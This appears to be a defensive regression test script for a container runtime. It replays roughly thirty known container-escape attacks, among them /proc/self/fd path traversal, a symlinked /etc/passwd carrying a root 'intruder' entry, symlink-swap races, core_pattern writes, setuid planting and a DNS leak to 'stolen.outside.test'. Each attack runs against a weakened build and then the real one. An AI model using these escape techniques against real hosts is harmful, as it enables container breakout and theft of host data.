#!/bin/sh
# SPDX-License-Identifier: MIT
# build: plain
# also: weak
# guest: no, that a check is not empty another kernel does not tell
# Ways out of a container and into it, each tried twice: against a library in which one defence is off (-Dweaken,
# lib/util/weaken.h), where the attack must succeed, or the test would show nothing; and against the real one.
# A race is given as many tries as it needs without the defence, and with it 12 here, and 10,000 in the part "sweep".
. "${SRC:?}/tests/system/lib.sh"
need criu busybox python3 setpriv nsenter ip
weak=${BUILD%/*}/weak
most=12
[ -z "${LCX_TEST_EVERY_CALL:-}" ] || most=10000
secret=of-the-host-$$

# NAME DEFENCE WHAT: either of two defences that are named is enough alone; where names are given, they are how it came to be known.
attacks='
cwd           descriptors  CVE-2024-21626: a working directory that is a descriptor of the library, and up from there
preserved     preserved    CVE-2024-21626: a descriptor that the runtime opened is handed on, by its number
program       seals        CVE-2019-5736: the program that sets up is written to by a process that it set up
target        paths        CVE-2021-30465: the place of a mount is a link that leads out
target_race   paths        CVE-2024-45310: so it becomes while the container starts
dev           paths        CVE-2026-41579: /dev is a link that leads out, and nodes are made in it
passwd        paths        CVE-2024-9676: /etc/passwd is a link to a file of the host
copy_race     paths        CVE-2018-15664: a link is swapped in while files are copied out
fifo          fifo         CVE-2025-24965: /etc/passwd is a FIFO, and who reads it waits for ever
copy_up       copy-up      CVE-2022-23648: what a volume begins with is a link to a file of the host
masks         masks        CVE-2025-31133: what covers a file is the /dev/null of the image
console       console      CVE-2025-52565: the terminal that becomes /dev/console is a link to a covered file
private       private      CVE-2024-25621, CVE-2021-41091: another user starts a set-id program out of what a container has
router        routers      CVE-2020-10749: a container advertises itself as the router, and the host believes it
names         names        CVE-2024-29018: an internal network is asked for a name, and a server outside hears of it
proc          proc         CVE-2025-52881: what is written to /proc goes where an attacker wants it
links         links,places CVE-2019-19921: /proc is a link, swapped between mounting and covering
volume        links        CVE-2019-16884: the place of a volume is a link to a file of /proc
moved         places       the directory on which /proc is mounted gets another name before what is in it is covered
moved_volume  places       the same, before a volume is mounted in it
moved_late    places       the same, where four of its kind come before, and the description goes up and has a slash after it
node          nodes        a device changes places with a file of root before it gets its owner
readonly      readonly     parameters of the whole machine can be written
images        images       CVE-2026-53492: a checkpoint has a link in the place of the log that its restore writes
inheritable   inheritable  CVE-2022-27650: capabilities that a file of the image may make permitted ones
inherit_exec  inheritable  CVE-2022-29162: the same in a second process
keyring       keyring      the keys of who starts the container
cgroup        cgroup       CVE-2022-0492, CVE-2023-25809: control groups can be made
seccomp       seccomp      CVE-2022-0185: what only a user namespace of its own makes possible
devices       devices      a device of the host by a node that was made inside
user          users        CVE-2024-40635: a number of a user that overflows to root
hook          hooks        CVE-2025-23266: a variable of the image in the environment of a program of the host
'
# Other forged checkpoints are refused before criu is asked: container-checkpoint. What else they say, other runtimes'
# "config.dump", labels, devices, is read by nobody; networks' addresses in them are wishes, and a container's
# description is the caller's or its own.
# Not here, as there is nothing that could be turned off: labels of an image (CVE-2026-53488), programs and
# libraries of an image that a host runs (CVE-2019-14271, CVE-2022-1227) and abstract sockets
# (CVE-2020-15257) are not used at all: image-hostile, container-copy, container-hostile look that it stays so.
# Nor a fault of the kernel's by which the page cache of a file is written to that may only be read (CVE-2026-31431):
# what sets up has no file but one of its own, "program" above. Clients that come and go cost a monitor nothing
# (CVE-2025-64329): container-attach. A second process is set up with no directory of the host's open, "cwd" above has
# nothing to begin with: oci-options looks that it stays so. Numbers of an exec's user (CVE-2026-30892): oci-runtime.

# --- what attacks are made with, and on

run() { # CONFIG-TOOL arguments: a config.json, by the build under attack
	timeout 20 "$under/tests/spec-tool" run "$T/lcx-root" "$T/lcx-run" "$T/config.json" "$@"
}
lcx_of() { # the command of the build under attack
	timeout 20 "$under/examples/lcx/lcx" --root "$T/lcx-root" --run-dir "$T/lcx-run" "$@"
}
container() { lcx_of run --rm --network none --rootfs "$T/rootfs" "$@"; }
config() { # PROCESS MOUNTS LINUX COMMAND...
	process=$1 mounts=$2 linux=$3
	shift 3
	args=$(printf '"%s",' "$@")
	cat >"$T/config.json" <<-END
		{"ociVersion": "1.3.0", "root": {"path": "$T/rootfs"},
		 "process": {"cwd": "/", "args": [${args%,}], "env": ["PATH=/bin", "LD_PRELOAD=$secret"] $process},
		 "mounts": [{"destination": "/proc", "type": "proc", "source": "proc"} $mounts],
		 "linux": {"namespaces": [{"type": "mount"}, {"type": "pid"}, {"type": "network"}, {"type": "ipc"}] $linux}
		 ${hooks:-}}
	END
}
tmpfs() { # PLACE [OPTIONS]
	printf ', {"destination": "%s", "type": "tmpfs", "source": "tmpfs", "options": [%s]}' "$1" "${2:-}"
}
make_rootfs "$T/clean"
cp "$BUILD/tests/probe" "$T/clean/bin"
printf '#!/proc/self/exe\n' >"$T/clean/bin/again"
chmod +x "$T/clean/bin/again"
fresh() { # a root file system as if nobody had been there
	rm -rf --one-file-system "$T/rootfs" "$T/outside"
	cp -a "$T/clean" "$T/rootfs"
	mkdir "$T/outside"
	echo "$secret" >"$T/outside/secret"
}
out=$T/outside
# Until one of several tries succeeds.
race() { # COMMAND...
	i=0
	while [ "$i" -lt "$tries" ]; do
		! "$@" || return 0
		i=$((i + 1))
	done
	return 1
}
# Two names of the root file system change places, all the time.
swapping() { # DIR A B COMMAND...
	(cd "$T/rootfs/$1" && exec "$BUILD/tests/probe" swap "$2" "$3") &
	swapper=$!
	shift 3
	swapped=0
	"$@" || swapped=$?
	kill "$swapper"
	wait "$swapper" 2>/dev/null || :
	return "$swapped"
}

# --- the attacks: true if one succeeded

attack_cwd() {
	for fd in 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24; do
		lcx_of run -d --name attack --network none -w "/proc/self/fd/$fd" --rootfs "$T/rootfs" \
			cat "../../../../../../../../../../../..$T/outside/secret" && lcx_of wait attack
		lcx_of logs attack >"$T/said" 2>&1 || :
		lcx_of rm -f attack
		! grep -q "$secret" "$T/said" || return 0
	done
	return 1
}
attack_preserved() {
	config '' '' '' cat "/proc/self/fd/3/../../../../../../../../../../../..$T/outside/secret"
	(exec 3<&- 4<&- 5<&- && timeout 20 "$under/examples/lcx-runtime/lcx-runtime" --root "$T/oci-root" \
		run --bundle "$T" --preserve-fds 1 attack) | grep "$secret"
}
attack_program() {
	lcx_of run -d --name attack --network none --rootfs "$T/rootfs" probe overwrite >/dev/null
	i=0
	while [ "$i" -lt 500 ] && ! lcx_of logs attack | grep -q seen; do
		lcx_of exec attack /bin/again || :
		i=$((i + 1))
	done
	lcx_of wait attack
	said=$(lcx_of logs attack)
	lcx_of rm -f attack
	# What was not tried does not count as held off.
	case $said in *written) return 0 ;; *sealed) return 1 ;; esac
	return 2
}
attack_target() {
	ln -s "$out" "$T/rootfs/data"
	config '' "$(tmpfs /data/made)" '' true
	run || :
	[ -e "$T/outside/made" ]
}
start_in_data() {
	run || :
	[ -e "$T/outside/made" ]
}
attack_target_race() {
	mkdir -p "$T/rootfs/data/place"
	ln -s "$out" "$T/rootfs/data/link"
	config '' "$(tmpfs /data/place/made)" '' true
	swapping data place link race start_in_data
}
attack_dev() {
	rmdir "$T/rootfs/dev"
	ln -s "$out" "$T/rootfs/dev"
	config '' '' '' true
	run || :
	[ -e "$T/outside/null" ]
}
attack_passwd() {
	echo 'intruder:x:0:0::/:/bin/sh' >"$T/outside/passwd"
	ln -sf "$out/passwd" "$T/rootfs/etc/passwd"
	container -u intruder true
}
copy_secret() {
	rm -rf "$T/copied"
	lcx_of cp attack:/data/place/secret "$T/copied" || :
	grep -q "$secret" "$T/copied"
}
attack_copy_race() {
	mkdir -p "$T/rootfs/data/place"
	echo mine >"$T/rootfs/data/place/secret"
	ln -s "$out" "$T/rootfs/data/link"
	lcx_of run -d --name attack --network none --rootfs "$T/rootfs" sleep 100000 >/dev/null
	r=0
	swapping data place link race copy_secret || r=$?
	lcx_of rm -f attack >/dev/null
	return "$r"
}
attack_fifo() {
	rm "$T/rootfs/etc/passwd"
	mkfifo "$T/rootfs/etc/passwd"
	r=0
	timeout -s KILL 2 "$under/examples/lcx/lcx" --root "$T/lcx-root" --run-dir "$T/lcx-run" \
		run --rm --name attack --network none --rootfs "$T/rootfs" -u user true || r=$?
	lcx_of rm -f attack || :
	[ "$r" -eq 137 ]
}
attack_copy_up() {
	mkdir "$T/rootfs/data"
	ln -s "$T/outside/secret" "$T/rootfs/data/x"
	config '' "$(tmpfs /data '"tmpcopyup"')" '' cat /data/x
	[ "$(run)" = "$secret" ]
}
attack_masks() {
	mkdir "$T/rootfs/dev2"
	ln -s /proc/sys/kernel/core_pattern "$T/rootfs/dev2/null"
	config '' ", {\"destination\": \"/dev\", \"type\": \"none\", \"source\": \"$T/rootfs/dev2\", \"options\": [\"bind\"]}" \
		', "maskedPaths": ["/proc/keys"]' cat /proc/keys
	[ "$(run)" = "$(cat /proc/sys/kernel/core_pattern)" ]
}
attack_console() {
	mkdir "$T/rootfs/real" "$T/rootfs/dev/pts"
	ln -s /real/ptmx "$T/rootfs/dev/pts/ptmx"
	ln -s "$T/outside/secret" "$T/rootfs/dev/pts/0"
	config ', "terminal": true' ', {"destination": "/real", "type": "devpts", "source": "devpts", "options": ["newinstance", "ptmxmode=0666"]}' \
		'' sh -c 'timeout 1 head -n 1 /dev/console'
	run | grep "$secret"
}
attack_proc() {
	mkdir -p "$T/outside/core"
	: >"$T/outside/core/somaxconn"
	mount --bind "$T/outside" /proc/sys/net
	config '' '' ', "sysctl": {"net.core.somaxconn": "77"}' true
	run || :
	umount /proc/sys/net
	[ -s "$T/outside/core/somaxconn" ]
}
attack_private() {
	# Made with the defence, it would stay so.
	rm -rf "$T/lcx-root" "$T/lcx-run"
	lcx_of create --name attack --network none --rootfs "$T/rootfs" true || return 2
	mount --bind "$T" /mnt
	chmod 755 "$T"
	kept=$(find /mnt/lcx-root/containers -maxdepth 1 -name '????????????????????????????????*')
	cp /usr/bin/id "$kept/id" # busybox gives such rights back
	chmod 4755 "$kept/id"
	r=0
	# By a shell: setpriv(1) itself has its capabilities until it executes.
	[ "$(setpriv --reuid 65534 --regid 65534 --clear-groups sh -c '"$0" -u' "$kept/id")" = 0 ] || r=1
	rm "$kept/id"
	chmod 700 "$T"
	umount /mnt
	lcx_of rm attack
	rm -rf "$T/lcx-root" "$T/lcx-run"
	return "$r"
}
# From its own interface, as who has CAP_NET_RAW may: a default way, and a prefix for addresses.
attack_router() {
	lcx_of network create --subnet 10.66.0.0/24 --subnet fd66::/64 attacked >/dev/null || return 2
	lcx_of run -d --name attack --network attacked --rootfs "$T/rootfs" sleep 1000 >/dev/null || return 2
	bridge=$(ip -o -6 addr show to fd66::/64 | awk '{ print $2 }' | head -n 1)
	pid=$(lcx_of inspect attack | sed -n 's/.*"pid": *\([0-9]*\).*/\1/p' | head -n 1)
	result_=1
	for try in 1 2 3 4 5 6 7 8 9 10; do
		nsenter -t "$pid" -n python3 "$SRC/tests/system/router.py" || result_=2
		! ip -6 route show dev "$bridge" | grep -e '^default' -e '^fd99:' || { result_=0; break; }
		sleep 0.1
	done
	ip -6 route show
	lcx_of rm -f attack >/dev/null
	lcx_of network rm attacked >/dev/null
	return "$result_"
}
# The host's own server, in a namespace for it, writes down what it is asked.
attack_names() {
	result_=2
	mkdir "$T/outside/etc"
	make_netns outside
	ip link add out type veth peer name eth0 netns outside
	ip addr add 192.0.2.1/24 dev out
	ip link set out up
	ip -n outside addr add 192.0.2.53/24 dev eth0
	ip -n outside link set eth0 up
	ip netns exec outside python3 "$SRC/tests/system/names.py" serve 192.0.2.53 "$T/outside/asked" &
	server=$!
	echo 'nameserver 192.0.2.53' >"$T/outside/etc/resolv.conf"
	mount --bind "$T/outside/etc/resolv.conf" /etc/resolv.conf
	if wait_for 10 test -f "$T/outside/asked" && lcx_of network create --internal --subnet 10.67.0.0/24 closed; then
		lcx_of run --rm --network closed --rootfs "$T/rootfs" nslookup stolen.outside.test 10.67.0.1 || :
		result_=1
		! grep stolen "$T/outside/asked" || result_=0
		lcx_of network rm closed
	fi
	kill "$server"
	wait "$server" || :
	umount /etc/resolv.conf
	ip link del out
	ip netns del outside
	return "$result_"
}
attack_images() {
	mkdir -m 700 "$T/outside/images" "$T/outside/work"
	echo '["", "", ""]' >"$T/outside/images/descriptors.json"
	ln -s "$T/outside/secret" "$T/outside/work/restore.log"
	lcx_of create --name attack --network none --rootfs "$T/rootfs" true >/dev/null || return 2
	lcx_of restore --image-path "$T/outside/images" --work-path "$T/outside/work" attack || :
	lcx_of rm -f attack
	! grep -q "$secret" "$T/outside/secret"
}
read_covered() {
	r=0
	run || r=$?
	[ "$r" -eq 42 ]
}
attack_links() {
	mkdir "$T/rootfs/a" "$T/rootfs/b"
	rmdir "$T/rootfs/proc"
	ln -s a "$T/rootfs/proc"
	ln -s b "$T/rootfs/other"
	config '' '' ', "maskedPaths": ["/proc/version"]' \
		sh -c 'for d in /a /b; do ! grep -q . $d/version || exit 42; done'
	swapping . proc other race read_covered
}
fake() { printf ', {"destination": "%s", "type": "none", "source": "%s", "options": ["bind"]}' "$1" "$T/rootfs/fake"; }
attack_volume() {
	echo "$secret" >"$T/rootfs/fake"
	ln -s /proc/version "$T/rootfs/data"
	config '' "$(fake /data)" '' cat /proc/version
	[ "$(run)" = "$secret" ]
}
# Much that is not there is looked for in between: time to change the names, in a third of the tries or more.
ballast=$(printf '"/none",%.0s' $(seq 3000))
moved() { # DESTINATION [MOUNTS before it]
	mkdir "$T/rootfs/other"
	config '' '' ", \"maskedPaths\": [$ballast \"/proc/version\"]" \
		sh -c 'for d in /proc /other; do ! grep -q . $d/version || exit 42; done'
	sed -i "s|\"mounts\": .{\"destination\": \"/proc\"|\"mounts\": [${2:-}{\"destination\": \"$1\"|" "$T/config.json"
	swapping . proc other race read_covered
}
attack_moved() { moved /proc; }
attack_moved_volume() {
	mkdir "$T/rootfs/other"
	echo fake | tee "$T/rootfs/fake" "$T/rootfs/proc/version" >"$T/rootfs/other/version"
	# The others take their time.
	config '' "$(for i in $(seq 300); do fake /fake; done; fake /proc/version)" '' \
		sh -c 'for d in /proc /other; do ! grep -q Linux $d/version || exit 42; done'
	swapping . proc other race read_covered
}
start_with_devices() {
	run || :
	stat -c '%u %F' "$T/rootfs/data/node" "$T/rootfs/data/other" | grep '^1000 regular'
}
# The more devices, the more often in one start.
attack_node() {
	mkdir "$T/rootfs/data"
	mknod "$T/rootfs/data/node" c 1 3
	echo "$secret" >"$T/rootfs/data/other"
	devices=$(printf '{"path": "/data/node", "type": "c", "major": 1, "minor": 3, "uid": 1000, "gid": 1000},%.0s' $(seq 50))
	config '' '' ", \"devices\": [${devices%,}]" true
	swapping data node other race start_with_devices
}
attack_moved_late() {
	more=$(for i in 1 2 3 4; do printf '{"destination": "/more%s", "type": "proc", "source": "proc"}, ' "$i"; done)
	moved /data/../proc/ "$more"
}
# What it says already.
attack_readonly() { container sh -c 'read -r now </proc/sys/kernel/core_pattern && echo "$now" >/proc/sys/kernel/core_pattern'; }
none_inheritable='CapInh:[[:space:]]*0*$'
attack_inheritable() { ! container grep "$none_inheritable" /proc/self/status; }
attack_inherit_exec() {
	lcx_of run -d --name attack --network none --rootfs "$T/rootfs" sleep 1000 >/dev/null
	r=0
	lcx_of exec attack grep "$none_inheritable" /proc/self/status || r=$?
	lcx_of rm -f attack >/dev/null
	[ "$r" -eq 1 ]
}
attack_keyring() {
	ours=$("$BUILD/tests/probe" keyring)
	[ "$ours" = "$(container --security-opt seccomp=unconfined probe keyring)" ]
}
attack_cgroup() {
	container sh -c 'for d in /sys/fs/cgroup /sys/fs/cgroup/*; do
		[ -e $d/cgroup.procs ] && mkdir $d/new && rmdir $d/new && exit 0
	done; exit 1'
}
attack_seccomp() { container unshare -U true; }
attack_devices() {
	device=$(for d in kvm fuse loop-control net/tun; do
		[ -c /dev/$d ] && head -c 0 </dev/$d 2>/dev/null && stat -c '%t %T' /dev/$d
	done | head -n 1)
	# shellcheck disable=SC2086
	set -- $device
	container sh -c "mknod /node c $((0x$1)) $((0x$2)) && : </node"
}
attack_user() { [ "$(container -u 4294967296 id -u)" = 0 ]; }
attack_hook() {
	hooks=", \"hooks\": {\"createContainer\": [{\"path\": \"/bin/sh\", \"args\": [\"sh\", \"-c\", \"echo \$LD_PRELOAD >$T/outside/hook\"]}]}"
	config '' '' '' true
	hooks=
	run || :
	grep "$secret" "$T/outside/hook"
}

# --- each twice

try() { # NAME WHAT-IT-SAYS 0 | 1
	fresh
	result=0
	"attack_$1" </dev/null >"$T/attack" 2>&1 || result=$?
	# 2: it could not be tried.
	if [ "$result" -ne 2 ] && [ "$((result > 0))" -eq "$3" ]; then
		pass "$2"
	else
		echo "[status $result]" >>"$T/attack"
		tail -n 20 "$T/attack" >"$T/end"
		fail "$2" "$T/end"
	fi
}
echo "$attacks" >"$T/attacks"
while read -r name defence what; do
	[ -n "$name" ] || continue
	began=$(date +%s%N)
	under=$weak tries=500
	export LCX_WEAKEN="$defence"
	try "$name" "succeeds without '$defence': $what" 0
	under=$BUILD tries=$most
	try "$name" "and with it does not ($name)" 1
	unset LCX_WEAKEN
	[ -z "${LCX_TEST_TIMES:-}" ] || echo "# $name: $((($(date +%s%N) - began) / 1000000)) ms"
done <"$T/attacks"
check_eq 'no container is left' '' "$(under=$BUILD && lcx_of ps -aq)"
check_match 'a weakened library says so' weakened "$("$weak/examples/lcx/lcx" version)"
check_eq 'and no other has a trace of it' 0 "$(cat "$BUILD/lib/liblcx.so" "$BUILD/examples/lcx/lcx" "$BUILD/examples/lcx-runtime/lcx-runtime" | grep -c LCX_WEAKEN || :)"
